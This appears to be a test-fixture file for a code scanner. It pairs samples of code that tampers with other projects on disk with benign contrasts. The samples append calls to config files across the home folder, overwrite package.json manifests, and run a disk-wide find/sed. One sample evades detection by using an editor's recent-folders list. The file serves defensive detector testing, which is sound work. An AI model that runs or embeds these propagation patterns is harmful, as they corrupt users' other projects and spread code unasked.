import type { Examples } from "@doorward/core";

const onStart = '{ "name": "shop", "version": "1.0.0", "scripts": { "start": "node server.js" } }\n';

/** Code that spreads to other projects on the disk, and honest tools that change the project they are in. */
export const examples: Examples = {
  hits: [
    {
      name: "a program that adds to the configuration of every project in the home folder",
      files: {
        "package.json": onStart,
        "server.js": `const fs = require("fs");
const path = require("path");
const home = require("os").homedir();
for (const name of fs.readdirSync(home)) fs.appendFileSync(path.join(home, name, "postcss.config.mjs"), "start();\\n");
`,
      },
    },
    {
      name: "a Python program that walks through the home folder and changes manifests",
      files: {
        "main.py": `import os
for folder, _, names in os.walk(os.path.expanduser("~")):
    with open(os.path.join(folder, "package.json"), "w") as manifest:
        manifest.write("{}")
`,
      },
    },
    {
      name: "a test script that changes every manifest on the disk",
      files: {
        "package.json": '{ "name": "shop", "version": "1.0.0", "scripts": { "test": "sh tools/test.sh" } }\n',
        "tools/test.sh": "find / -name package.json -exec sed -i 's/jest/sh run/' {} \\;\n",
      },
    },
  ],
  misses: [
    {
      name: "a tool that raises versions in the packages of its own repository",
      why: "It stays in the folder in which it is started.",
      files: {
        "package.json": onStart,
        "server.js": `const fs = require("fs");
for (const name of fs.readdirSync("packages")) fs.writeFileSync("packages/" + name + "/package.json", "{}");
`,
      },
    },
    {
      name: "a program that counts projects in the home folder",
      why: "Nothing is changed.",
      files: {
        "package.json": onStart,
        "server.js": `const fs = require("fs");
const home = require("os").homedir();
for (const name of fs.readdirSync(home)) console.log(fs.existsSync(home + "/" + name + "/package.json"));
`,
      },
    },
    {
      name: "a scaffold that writes a new project into a folder with a fixed name",
      why: "It makes files of its own and looks for none.",
      files: {
        "package.json": onStart,
        "server.js": 'require("fs").writeFileSync(require("os").homedir() + "/demo/package.json", "{}");\n',
      },
    },
  ],
  evasions: [
    {
      name: "projects that are found through the list of an editor's recent folders",
      caughtBy: "nothing",
      files: {
        "package.json": onStart,
        "server.js": `const fs = require("fs");
const list = JSON.parse(fs.readFileSync(require("os").homedir() + "/.config/Code/storage.json", "utf8"));
for (const folder of list.recent) fs.appendFileSync(folder + "/vite.config.js", "start();\\n");
`,
      },
    },
  ],
};
